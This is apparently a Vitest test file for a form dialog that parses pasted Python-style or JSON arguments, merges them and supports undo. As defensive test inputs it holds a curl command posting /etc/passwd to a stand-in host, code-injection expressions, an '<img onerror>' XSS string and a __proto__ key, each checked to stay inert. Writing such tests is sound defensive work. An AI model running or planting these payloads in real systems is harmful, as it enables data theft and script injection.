// @vitest-environment jsdom
import { beforeEach, expect, test, vi } from 'vitest';
import { object } from '../arguments/test-arguments.tsx';
import { furnishRuns, type Runs } from '../arguments/test-runs.tsx';

vi.mock('../../backend.ts', () => import('../../test-backend.ts'));

let forms: Runs;
beforeEach(() => {
  forms = furnishRuns();
});

const properties = {
  message: { type: 'string' },
  count: { type: 'integer' },
  exact: { type: 'number' },
  tags: { type: 'array', items: { type: 'string' } },
};
const schema = object(properties, { required: ['message'] });

const region = (name: string) => forms.page.getByRole('region', { name });
const preview = () => forms.page.getByRole('group', { name: 'The new arguments' });
const pasted = () => forms.page.getByRole('textbox', { name: 'Pasted text' });
const dialog = () => forms.page.getByRole('dialog', { name: 'Paste arguments' });

async function openDialog(json: string): Promise<void> {
  forms.open(schema, json);
  await forms.page.getByRole('button', { name: 'Fill the arguments' }).click();
  await forms.page.getByRole('menuitem', { name: 'Paste arguments…' }).click();
}

test('merges what is written as in Python into what is there', async () => {
  await openDialog('{ "message": "kept", "count": 1, "other": 1.0 }');

  await pasted().fill("args = {'count': 2, 'tags': ('a', 'b'), 'late': None,}  # so");
  await expect(preview()).not.toContainText('kept');
  await forms.page.getByRole('radio', { name: 'Merge into current' }).click();
  await expect(preview()).toContainText('kept');
  await expect(region('Recognized')).toContainText('A tuple became a list.');
  await expect(region('Recognized')).toContainText('Kept, though not in the schema: late');
  await forms.page.keyboard('{Control>}{Enter}{/Control}');

  await expect(dialog()).toHaveCount(0);
  expect((await forms.sent()).replaceAll(/\s+/g, ' ')).toBe(
    '{ "message": "kept", "count": 2, "other": 1.0, "tags": [ "a", "b" ], "late": null }',
  );
});

test('says why a text can’t be taken, and evaluates nothing', async () => {
  await openDialog('{"message": "kept"}');

  for (const [text, reason] of [
    ['[1, 2]', 'It is a list'],
    ['{count: Infinity}', 'JSON has no Infinity and NaN.'],
    ['{count: (globalThis.hacked = 1)}', 'nothing is evaluated here'],
    ['{message: `${globalThis.hacked = 1}`}', 'nothing is evaluated here'],
    ['{"a": [1, ', 'the end may be missing'],
    ['{a:'.repeat(10_000), 'nested more than 200 levels deep'],
    ['curl http://x -d @/etc/passwd', 'which is not read'],
    ['hello', 'No arguments recognized'],
  ] as const) {
    await pasted().fill(text);
    await expect(region('Recognized').getByRole('alert')).toContainText(reason);
    await expect(forms.page.getByRole('button', { name: 'Use these' })).toBeDisabled();
  }
  await forms.page.keyboard('{Escape}');

  expect('hacked' in globalThis).toBe(false);
  await expect(forms.form.getByRole('textbox', { name: 'message' })).toHaveValue('kept');
});

test('shows markup and hidden characters for what they are', async () => {
  await openDialog('{}');

  await pasted().fill(
    '{"message": "<img src=x onerror=alert(1)> a\u202Eb", "__proto__": {"x": 1}}',
  );

  await expect(preview()).toContainText('<img src=x onerror=alert(1)>');
  await expect(preview()).toContainText('U+202E');
  await expect(preview()).toContainText('__proto__');
  await expect(forms.page.locator('img')).toHaveCount(0);
});

test('JSON for one field is undone by itself', async () => {
  const before = '{ "message": "kept", "exact": 1.0 }';
  forms.open(schema, before);
  await forms.menu('tags', 'Paste JSON…');
  const area = forms.form.getByRole('textbox', { name: 'JSON for tags' });
  await expect(area).toBeFocused();

  await forms.page.paste("['a', 5, 'c',] // three");
  await expect(forms.form.getByText('[1] must be text')).toBeVisible();
  await area.fill("['a', 'b']");
  await expect(forms.form.getByText('[1] must be text')).toHaveCount(0);
  await forms.page.keyboard('{Control>}{Enter}{/Control}');

  await expect(area).toHaveCount(0);
  expect(JSON.parse(await forms.sent())).toEqual({ message: 'kept', exact: 1, tags: ['a', 'b'] });
  await forms.form.getByRole('textbox', { name: 'message' }).focus();
  await forms.page.keyboard('{Control>}z{/Control}');
  expect(await forms.sent()).toBe(before);
});
